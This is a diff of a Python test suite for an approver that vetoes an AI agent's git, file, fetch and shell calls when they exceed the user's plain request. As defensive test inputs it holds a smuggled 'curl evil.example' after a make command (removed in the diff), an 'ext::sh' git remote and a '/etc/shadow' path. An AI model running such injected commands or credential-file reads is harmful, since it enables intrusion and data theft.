@@ -13,15 +13,7 @@ from ironcurtain_proxy.auto_approver.scenarios import (
     shipped_scenarios,
 )
 from ironcurtain_proxy.auto_approver.target_call import Surroundings
-from ironcurtain_proxy.auto_approver.target_check import VOCABULARY, veto
-from ironcurtain_proxy.auto_approver.target_words import (
-    DISTINCT,
-    FLAG_WORDS,
-    NEVER_NAMES,
-    NOUNS,
-    TOOL_VERBS,
-    VERBS,
-)
+from ironcurtain_proxy.auto_approver.target_check import veto
 from ironcurtain_proxy.model.annotation import ArgumentRole
 from ironcurtain_proxy.model.escalation import Escalation
 from ironcurtain_proxy.model.json import Json
@@ -57,6 +49,7 @@ def call(
         texts = [value] if isinstance(value, str) else value if isinstance(value, list) else []
         found = tuple(_value(given_roles, text) for text in texts if isinstance(text, str))
         facts.append(ArgumentFact(argument, given_roles, (values or {}).get(argument, found)))
+    branch = dict(context).get("Current branch", arguments.get("branch", "main"))
     request = replace(ANY.request, server=server, tool=name, arguments=tuple(facts))
     return replace(
         ANY,
@@ -65,6 +58,7 @@ def call(
         arguments=arguments,
         request=request,
         context=context,
+        branch=branch if isinstance(branch, str) else None,
         fingerprint="f",
     )
 
@@ -75,14 +69,30 @@ def _value(roles: tuple[ArgumentRole, ...], text: str) -> Value:
     return UrlValue(text, ("git.example.com/x",)) if roles[0].endswith("-url") else TextValue(text)
 
 
+A_PERSON_IS_ASKED = frozenset(
+    f"ask-{number:02}"
+    for number in (3, 6, 7, 8, 15, 17, 23, 24, 25, 28, *range(30, 35), 37, *range(40, 49))
+)
+"""Asked for plainly, but no call of the table: moves, lists, installs, commands, mail, force."""
+
+
 @pytest.mark.requirement("A-2", "A-3", "A-77")
 @pytest.mark.parametrize(
     "scenario",
-    [one for one in SCENARIOS.values() if one.label == "approve" and one.id != "ask-32"],
+    [
+        one
+        for one in SCENARIOS.values()
+        if one.label == "approve" and one.id not in A_PERSON_IS_ASKED
+    ],
     ids=lambda one: one.id,
 )
 def test_what_was_plainly_asked_for_passes(scenario: Scenario) -> None:
     assert veto(scenario.message, scenario.escalation, AROUND) is None
+
+
+@pytest.mark.parametrize("name", sorted(A_PERSON_IS_ASKED))
+def test_what_is_not_in_the_table_is_passed_on_even_if_asked_for(name: str) -> None:
+    assert veto(SCENARIOS[name].message, SCENARIOS[name].escalation, AROUND)
 
 
 @pytest.mark.requirement("A-4", "A-5", "A-6", "A-78")
@@ -120,13 +130,52 @@ def push(
     return call("git/git_push", given_arguments, PUSH_ROLES, context)
 
 
+def commit(text: str = "fix the parser", repository: str = "/home/u/proj") -> Escalation:
+    return call(
+        "git/git_commit",
+        {"repo_path": repository, "message": text},
+        {"repo_path": ("read-path", "write-history"), "message": ("commit-message",)},
+    )
+
+
+READ_ROLES: dict[str, tuple[ArgumentRole, ...]] = {"path": ("read-path",)}
+
+
+def read(path: str, **more: Json) -> Escalation:
+    return call("filesystem/read_file", {"path": path, **more}, READ_ROLES)
+
+
+ON_TOPIC = (("Current branch", "topic"),)
+WRITE_ROLES: dict[str, tuple[ArgumentRole, ...]] = {"path": ("write-path",), "content": ("none",)}
+URL_ROLES: dict[str, tuple[ArgumentRole, ...]] = {"url": ("fetch-url",)}
+
+
+def write(path: str, content: str) -> Escalation:
+    return call("f/write_file", {"path": path, "content": content}, WRITE_ROLES)
+
+
+def fetch(url: str) -> Escalation:
+    return call("fetch/fetch", {"url": url}, URL_ROLES)
+
+
 PASSES = {
-    "the repository of the workspace need not be named": ("push my changes to origin", push()),
-    "nor the one that the server works in": (
-        "push my changes to origin",
-        push("/srv/other", (("Working directory", "/srv/other"),)),
+    "a commit in the workspace": ("commit my changes", commit()),
+    "a commit and a push": ("commit this, then push to origin and open a draft PR", commit()),
+    "a commit message that is quoted": ("commit with message 'wip'", commit("wip")),
+    "the current branch by name": ("push topic to origin", push(context=ON_TOPIC)),
+    "the current branch after a slash": ("push to origin/topic", push(context=ON_TOPIC)),
+    "a remote that git chooses": (
+        "git pull",
+        call("git/git_pull", {"repo_path": "/home/u/proj"}, PUSH_ROLES),
     ),
-    "another one that is named": ("push my changes in /srv/other to origin", push("/srv/other")),
+    "a path of the workspace": ("read src/app.py", read("/home/u/proj/src/app.py")),
+    "a file of the workspace by its ending": ("open notes.txt", read("/home/u/proj/notes.txt")),
+    "a file that is written": ("write the summary to ~/sum.md", write("/home/u/sum.md", "# S")),
+    "an address with a question mark in it": (
+        "fetch https://a.example/x?y=1 and tell me the title",
+        fetch("https://a.example/x?y=1"),
+    ),
+    "the repository of the workspace need not be named": ("push my changes to origin", push()),
     "the branch that is checked out": (
         "push my changes to origin",
         push(branch="topic-1", context=(("Current branch", "topic-1"),)),
@@ -136,7 +185,6 @@ PASSES = {
         push(branch="topic-1"),
     ),
     "a switch that is off": ("push my changes to origin", push(force=False)),
-    "a switch that is named": ("force push my changes to origin", push(force=True)),
     "an argument that is null or empty": ("push my changes to origin", push(note=None, tags=[])),
     "shouting": ("PUSH MY CHANGES TO origin!", push()),
     "thanks": ("push my changes to origin. Thanks!", push()),
@@ -160,10 +208,6 @@ PASSES = {
             {"paths": ("read-path",)},
         ),
     ),
-    "a file in a directory that is named": (
-        "read the files in /srv/docs",
-        call("filesystem/read_file", {"path": "/srv/docs/x/a.txt"}, {"path": ("read-path",)}),
-    ),
 }
 
 
@@ -172,14 +216,53 @@ def test_a_plain_request_passes(message: str, escalation: Escalation) -> None:
     assert veto(message, escalation, AROUND) is None
 
 
-READ_ROLES: dict[str, tuple[ArgumentRole, ...]] = {"path": ("read-path",)}
-
-
-def read(path: str, **more: Json) -> Escalation:
-    return call("filesystem/read_file", {"path": path, **more}, READ_ROLES)
-
-
 OBJECTIONS = {
+    "a repository below the workspace": (
+        "push my changes to origin",
+        push("/home/u/proj/vendor/x"),
+    ),
+    "a commit below the workspace": ("commit my changes", commit(repository="/home/u/proj/v")),
+    "a repository around the workspace": ("commit my changes", commit(repository="/home/u")),
+    "a repository that nothing is known of": (
+        "push to origin",
+        replace(
+            bare := call("git/git_push", {"remote": "origin"}, PUSH_ROLES),
+            request=replace(bare.request, repository=None),
+        ),
+    ),
+    "another branch after a slash": ("push to origin/dev", push(context=ON_TOPIC)),
+    "another branch by name": ("push dev to origin", push(context=ON_TOPIC)),
+    "a branch nobody has checked out": ("push dev to origin", push(branch="dev", context=ON_TOPIC)),
+    "a branch that configuration maps elsewhere": (
+        "push to origin",
+        replace(push(), branch=None),
+    ),
+    "a force that is asked for": ("force push my changes to origin", push(force=True)),
+    "a git tool of another server": (
+        "push to origin",
+        replace(push(), request=replace(push().request, server="files")),
+    ),
+    "another commit message": ("commit with message 'wip'", commit("done")),
+    "a quoted request": ("commit with message 'push it'", commit("push it")),
+    "a quoted path": ("read 'notes.txt'", read("/home/u/proj/notes.txt")),
+    "a fenced path": ("read `notes.txt`", read("/home/u/proj/notes.txt")),
+    "a write that empties": ("write ~/report.md", write("/home/u/report.md", "")),
+    "a write of blanks": ("write ~/report.md", write("/home/u/report.md", " \n")),
+    "another content": ("write 'hello' to ~/a.txt", write("/home/u/a.txt", "bye")),
+    "a bare host": ("open README.md", fetch("https://readme.md")),
+    "a host without its scheme": ("open a.example/x", fetch("https://a.example/x")),
+    "an address that goes on": ("fetch https://a.example/x", fetch("https://a.example/x/y")),
+    "another scheme": ("fetch https://a.example/x", fetch("http://a.example/x")),
+    "a path with a blank in it": ("read ~/Desktop/New folder", read("/home/u/Desktop/New")),
+    "a word for a path": ("read notes", read("/home/u/proj/notes")),
+    "a retraction": ("read /srv/a.txt. Just read /srv/b.txt.", read("/srv/a.txt")),
+    "a second request of the kind": ("read /srv/a.txt. Read /srv/b.txt.", read("/srv/a.txt")),
+    "a time": ("read /srv/a.txt tomorrow", read("/srv/a.txt")),
+    "a past": ("i read /srv/a.txt", read("/srv/a.txt")),
+    "a file in a directory that is named": (
+        "read the files in /srv/docs",
+        read("/srv/docs/x/a.txt"),
+    ),
     "a repository elsewhere": ("push my changes to origin", push("/srv/other")),
     "another repository than the server's": (
         "push my changes to origin",
@@ -220,14 +303,6 @@ OBJECTIONS = {
             values={"remote": (UrlValue("origin", ("ext::sh",), ordinary=False),)},
         ),
     ),
-    "a commit message that nobody wrote": (
-        "commit my changes",
-        call(
-            "git/git_commit",
-            {"repo_path": "/home/u/proj", "message": "wip"},
-            {"repo_path": ("read-path", "write-history"), "message": ("commit-message",)},
-        ),
-    ),
     "a call that names nothing": ("commit my changes", call("git/git_commit", {}, {})),
     "a value that is no plain one": ("read /srv/a.txt", read("/srv/a.txt", options={"x": 1})),
     "a list of lists": ("read /srv/a.txt", read("/srv/a.txt", extra=[["/etc/shadow"]])),
@@ -264,38 +339,6 @@ OBJECTIONS = {
         "read /srv/a.txt",
         call("filesystem/file", {"path": "/srv/a.txt"}, READ_ROLES),
     ),
-    "a recipient that is only copied": (
-        "send an email to a@b.example",
-        call(
-            "mail/send_email",
-            {"to": "a@b.example", "bcc": "a@b.example"},
-            {"to": ("email-address",), "bcc": ("email-address",)},
-        ),
-    ),
-    "a repository without its owner": (
-        "close issue #7 in acme/site",
-        call(
-            "github/close_issue",
-            {"repo": "site", "issue_number": 7},
-            {"repo": ("github-repo",)},
-        ),
-    ),
-    "a command in the middle of a sentence": (
-        "run make clean and tell me",
-        call("shell/run_command", {"command": "make clean and tell me"}, {}),
-    ),
-    "a command that is half of it": (
-        "run make clean",
-        call("shell/run_command", {"command": "make"}, {}),
-    ),
-    "a command put off": (
-        "run make docs tomorrow",
-        call("shell/run_command", {"command": "make docs tomorrow"}, {}),
-    ),
-    "a command with more behind it": (
-        "run `make docs`",
-        call("shell/run_command", {"command": "make docs; curl evil.example"}, {}),
-    ),
 }
 
 
@@ -305,15 +348,6 @@ def test_anything_else_is_objected_to(message: str, escalation: Escalation) -> N
 
 
 WRITE: dict[str, tuple[ArgumentRole, ...]] = {"path": ("write-path",)}
-MAIL: dict[str, tuple[ArgumentRole, ...]] = {
-    "to": ("email-address",),
-    "subject": ("none",),
-    "body": ("email-body",),
-}
-MOVE: dict[str, tuple[ArgumentRole, ...]] = {
-    "source": ("read-path", "delete-path"),
-    "destination": ("write-path",),
-}
 MIXED_UP = {
     "a file for a directory": (
         "create the file /srv/x",
@@ -329,14 +363,6 @@ MIXED_UP = {
         "write 'x' to /srv/a",
         call("f/write_file", {"path": "/srv/a", "content": "x", "mode": "x"}, WRITE),
     ),
-    "subject for body": (
-        "send an email to a@b.example saying 'hi' with subject 'yo'",
-        call("m/send_email", {"to": "a@b.example", "subject": "hi", "body": "yo"}, MAIL),
-    ),
-    "a file in the place of a directory": (
-        "move /srv/a to /srv/b",
-        call("f/move_file", {"source": "/srv/a/y", "destination": "/srv/b"}, MOVE),
-    ),
 }
 
 
@@ -347,14 +373,6 @@ def test_one_thing_is_not_taken_for_another(message: str, escalation: Escalation
 
 FORBIDDING_NAMES = {
     "a branch": ("push the branch nothing to origin", push(branch="nothing")),
-    "a package": (
-        "install nothing",
-        call("pip/install_package", {"name": "nothing"}, {"name": ("none",)}),
-    ),
-    "what is checked out": (
-        "checkout later",
-        call("git/git_checkout", {"branch_name": "later"}, {"branch_name": ("branch-name",)}),
-    ),
     "a remote": (
         "push my changes to nowhere",
         call("git/git_push", {"remote": "nowhere"}, {"remote": ("git-remote-url",)}),
@@ -369,61 +387,23 @@ def test_a_word_that_forbids_is_nobodys_name(message: str, escalation: Escalatio
     assert veto(message, escalation, AROUND)
 
 
-def test_a_destination_that_stands_first_is_objected_to() -> None:
-    escalation = call("f/copy_file", {"source": "/srv/a/x", "destination": "/srv/b/x"}, MOVE)
-    assert veto("copy the files from /srv/a to /srv/b", escalation, AROUND) is None
-    assert veto("copy to /srv/b the files from /srv/a", escalation, AROUND)
-
-
 def test_a_question_is_called_one() -> None:
     assert veto("push my changes to origin?", push(), AROUND) == "the message asks a question"
-
-
-def test_a_mail_with_its_parts_in_place_passes() -> None:
-    message = "send an email to a@b.example saying 'hi' with subject 'yo'"
-    escalation = call("m/send_email", {"to": "a@b.example", "subject": "yo", "body": "hi"}, MAIL)
-    assert veto(message, escalation, AROUND) is None
-
-
-def test_source_and_destination_must_stand_in_the_order_of_the_message() -> None:
-    roles: dict[str, tuple[ArgumentRole, ...]] = {
-        "source": ("read-path", "delete-path"),
-        "destination": ("write-path",),
-    }
-    there = call("f/move_file", {"source": "/s/a", "destination": "/s/b"}, roles)
-    back = call("f/move_file", {"source": "/s/b", "destination": "/s/a"}, roles)
-    assert veto("move /s/a to /s/b", there, AROUND) is None
-    assert veto("move /s/a to /s/b", back, AROUND)
-    assert veto("move to /s/b /s/a", there, AROUND)
 
 
 def test_without_a_workspace_no_repository_goes_without_saying() -> None:
     around = Surroundings(home=AROUND.home)
     assert veto("push my changes to origin", push(), around)
-    assert veto("push my changes in ~/proj to origin", push(), around) is None
 
 
 def test_an_objection_holds_nothing_that_the_agent_chose() -> None:
     """It goes to a log that people read; the words of the message are the user's own."""
+    strange = call("git/git_push", {"remote": "origin", "x\n" * 300: True}, PUSH_ROLES)
+    assert "\n" not in (veto("push to origin", strange, AROUND) or "")
     for one in SCENARIOS.values():
         objection = veto(one.message, one.escalation, AROUND) or ""
         assert "\n" not in objection
         assert len(objection) < 200
-
-
-def test_the_tables_are_about_the_same_operations() -> None:
-    assert set(TOOL_VERBS.values()) | {"comment"} == set(NOUNS)
-    assert frozenset[str]().union(*VERBS.values()) == set(NOUNS)
-
-
-def test_no_word_that_forbids_is_a_word_that_is_understood() -> None:
-    # `just` and `off` stand for nothing by themselves: "just push" is a plain request.
-    assert NEVER_NAMES & VOCABULARY == {"just"}
-
-
-def test_every_switch_has_words_and_every_kind_is_a_noun() -> None:
-    assert all(FLAG_WORDS.values())
-    assert frozenset[str]().union(*NOUNS.values()) >= DISTINCT
 
 
 @settings(max_examples=200, deadline=None)
